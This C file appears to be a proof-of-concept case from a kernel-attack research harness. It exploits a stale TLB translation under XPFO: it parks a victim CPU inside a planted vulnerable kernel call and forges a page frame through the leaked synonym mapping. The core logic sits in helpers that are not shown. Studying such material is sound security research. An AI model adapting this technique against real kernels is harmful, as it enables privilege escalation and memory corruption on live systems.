/*
 * The stale translation of xpfo_stale_tlb, on a processor that does not leave the kernel between
 * loading it and using it.
 */
#include "attack.h"

enum { CPU_OF_ALLOCATOR, CPU_OF_VICTIM, NR_CPUS };
enum { STAGE_CALL = 1, STAGE_CALLED };

static attack_stage stage;
static struct attack_frame frame;

static void victim(void *unused)
{
	(void)unused;
	attack_await(&stage, STAGE_CALL, AWAIT_SPIN);
	attack_warm(frame.synonym);
	attack_check("vuln_call_parked", bw_vuln_call_parked(frame.synonym));
	attack_tell(&stage, STAGE_CALLED);
}

int main(void)
{
	struct bw_leak leak;

	attack_begin(&leak, NR_CPUS, CPU_OF_ALLOCATOR);
	attack_thread(CPU_OF_VICTIM, victim, NULL);

	attack_frame_find(&leak, &frame);
	attack_tell(&stage, STAGE_CALL);
	attack_await_parked(1);
	attack_say("CPU %d has read it at 0x%lx, and stays in the kernel", CPU_OF_VICTIM,
		   frame.synonym);

	if (!attack_frame_forge(&leak, &frame)) {
		bw_vuln_unpark(false);
		attack_skip("the next page came from elsewhere");
	}
	bw_vuln_unpark(true);
	attack_await(&stage, STAGE_CALLED, AWAIT_SPIN);
	return attack_finish();
}
